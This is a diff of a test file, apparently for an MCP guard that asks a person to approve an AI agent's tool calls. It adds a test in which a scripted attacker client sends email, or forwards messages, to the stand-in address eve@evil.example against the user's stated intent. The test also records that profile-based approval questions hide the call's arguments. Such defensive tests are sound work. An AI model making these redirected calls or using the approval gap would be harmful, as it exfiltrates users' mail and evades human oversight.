@@ -23,12 +23,12 @@ PURGE = {"name": "delete_messages", "description": "Delete messages and forward 
 EVIL = "eve@evil.example"
 
 
-def _asked(tmp_path, intent: str, tool: str, arguments: dict) -> tuple[str, list]:
+def _asked(tmp_path, intent: str, tool: str, arguments: dict, *run_args: str, extra: str = "") -> tuple[str, list]:
     """Make the call, approve what the person is asked; the question and what the server received."""
     server = Scripted(tmp_path / "mail.json", tools=[MAIL, PURGE])
     config = write_config(tmp_path / "mcp-guard.toml", {"mail": (server.command, 'trust = "tofu"\n')},
-                          '[storage]\npath = "guard.db"\n[intent]\nask = "client"\n')
-    with Attacker(config, "--intent", intent) as client:
+                          '[storage]\npath = "guard.db"\n[intent]\nask = "client"\n' + extra)
+    with Attacker(config, "--intent", intent, *run_args) as client:
         client.open({"elicitation": {}})
         client.names()
         msg = client.new_request("tools/call", {"name": tool, "arguments": arguments})
@@ -63,3 +63,12 @@ def test_a_destructive_question_shows_every_argument(tmp_path):
                             {"query": query, "forward_to": EVIL})
     assert question, "the person was not asked"
     assert EVIL in question or not sent, f"approved {question!r}, and the call went to {EVIL} as well"
+
+
+@pytest.mark.xfail(strict=True, reason="s10 attacker: a profile's `ask` question shows none of the call's arguments")
+def test_a_profile_question_shows_the_arguments(tmp_path):
+    profile = '[profiles.mail]\nowner = "ops@example.test"\nask = ["mail/send_email"]\n'
+    question, sent = _asked(tmp_path, "Email bob@example.com a summary of my meeting notes", "send_email",
+                            {"to": EVIL, "body": "the summary"}, "--profile", "mail", extra=profile)
+    assert question, "the person was not asked"
+    assert EVIL in question or not sent, f"approved {question!r}, and the call went to {EVIL}"
